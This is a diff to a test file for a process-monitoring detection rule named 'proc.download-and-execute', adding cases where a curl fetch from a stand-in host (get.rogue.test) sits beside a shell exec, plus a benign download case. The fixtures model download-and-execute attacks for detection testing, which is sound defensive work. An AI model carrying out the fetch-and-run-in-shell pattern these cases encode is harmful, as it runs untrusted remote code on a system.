@@ -19,6 +19,11 @@ describe('proc.download-and-execute', () => {
         given: [exec(['curl', '-s', 'https://get.rogue.test/x'], { pid: 601, ppid: 600 })],
         event: exec(['bash'], { pid: 602, ppid: 600 }),
       },
+      {
+        name: 'sibling execs under eBPF, the shell exec first',
+        given: [exec(['sh'], { pid: 612, ppid: 610 })],
+        event: exec(['curl', '-s', 'https://get.rogue.test/x'], { pid: 611, ppid: 610 }),
+      },
     ],
     passes: [
       {
@@ -26,6 +31,14 @@ describe('proc.download-and-execute', () => {
         event: sh('curl -fsSLo data.json https://registry.test/data.json'),
       },
       { name: 'curl | jq', event: sh('curl -s https://registry.test/api | jq .name') },
+      {
+        name: 'a download beside a shell that runs a script file',
+        given: [exec(['sh', 'build.sh'], { pid: 622, ppid: 620 })],
+        event: exec(['curl', '-so', 'x.tgz', 'https://registry.test/x.tgz'], {
+          pid: 621,
+          ppid: 620,
+        }),
+      },
       {
         name: 'wget tarball and extract',
         event: sh('wget https://registry.test/x.tgz && tar xzf x.tgz'),
